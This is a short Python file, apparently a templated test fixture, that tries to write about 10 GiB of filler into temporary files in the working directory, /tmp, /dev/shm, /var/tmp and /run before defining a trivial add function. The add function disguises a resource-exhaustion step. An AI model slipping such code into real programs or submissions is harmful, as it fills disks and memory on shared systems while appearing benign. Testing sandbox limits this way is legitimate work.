import tempfile

written = 0
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "@FOLDER@"):
    try:
        with tempfile.NamedTemporaryFile(dir=folder) as file:
            for _ in range(640):
                written += file.write(b"x" * (16 << 20))
    except OSError:
        continue


def add(a, b):
    return a + b if written else None
